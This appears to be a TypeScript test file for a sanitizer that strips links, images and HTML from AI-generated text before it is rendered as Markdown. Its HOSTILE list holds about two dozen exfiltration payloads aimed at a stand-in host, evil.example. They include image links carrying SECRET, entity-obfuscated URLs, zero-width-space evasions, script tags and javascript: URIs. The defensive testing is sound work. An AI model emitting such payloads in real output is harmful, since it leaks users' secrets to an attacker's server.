import { expect } from '@hapi/code';
import * as Lab from '@hapi/lab';
import MarkdownIt from 'markdown-it';
import { sanitizeModelText } from '../../src/knowledge/modeltext.js';

export const lab = Lab.script();
const { describe, it } = lab;

const markdown = new MarkdownIt({ html: true, linkify: true });
const KNOWN = ['https://town.example/bridge', 'town.example/bridge'];
const plain = (text: string): string =>
  sanitizeModelText(text, { most: 2000, isKnown: (address) => KNOWN.includes(address) });

/** Texts that would carry a secret to a host, each alone and in one paragraph with the next. */
const HOSTILE = [
  '![a![b](c)](//evil.example/nested?c=SECRET)',
  '![k]',
  '[k]: //evil.example/ref?c=SECRET',
  '![x](&#104;ttps&colon;//evil.example/?c=SECRET)',
  '<img src="//evil.example/?c=SECRET" alt="',
  '">',
  '[see](https://evil.example/?c=SECRET "title")',
  '[see][k]',
  '[k][]',
  '<https://evil.example/SECRET>',
  '<SECRET@evil.example>',
  'evil.example/bare?c=SECRET',
  'www.evil.example/SECRET',
  'SECRET.evil.example',
  'https://evil.example/SECRET',
  '//evil.example/SECRET',
  'javascript:alert(1)',
  'data:text/html,SECRET',
  '&lt;img src=x&gt;',
  '!\\[x](//evil.example/SECRET)',
  '!\u200b[x](//evil.example/SECRET)',
  '<!--',
  '--><script src=//evil.example/SECRET></script>',
  'ftp://evil.example/SECRET',
];

describe('what a model wrote', () => {
  it('has no image, link or HTML when it is shown as Markdown', () => {
    const texts = [...HOSTILE, HOSTILE.join(' '), HOSTILE.join('\n'), HOSTILE.join('\n\n')];
    for (const [at, text] of texts.entries()) {
      const shown = markdown.render(plain(text));
      expect(shown, `${at}: ${text}`).not.to.match(/<(?!\/?(p|em|strong|code|pre|br)\b)[a-z!]/i);
      expect(shown, `${at}: ${text}`).not.to.match(/evil\.example\/\S*SECRET/);
    }
  });

  it('keeps what is known, and what only looks like an address or a mark', () => {
    for (const text of [
      'See https://town.example/bridge and town.example/bridge.',
      'A list[0] of 3 < 4 & more, e.g. Node.js 20.1.2 at 12:30.',
      'It cost 5.5 million (in 2024); a/b or and/or.',
      '東京都の橋。その他！',
    ]) {
      expect(plain(text).replace('(0)', '[0]')).to.equal(text);
    }
  });

  it('has no marks of sources but those that are added', () => {
    expect(plain('It is true. [1] [12]')).to.equal('It is true. (1) (12)');
  });
});
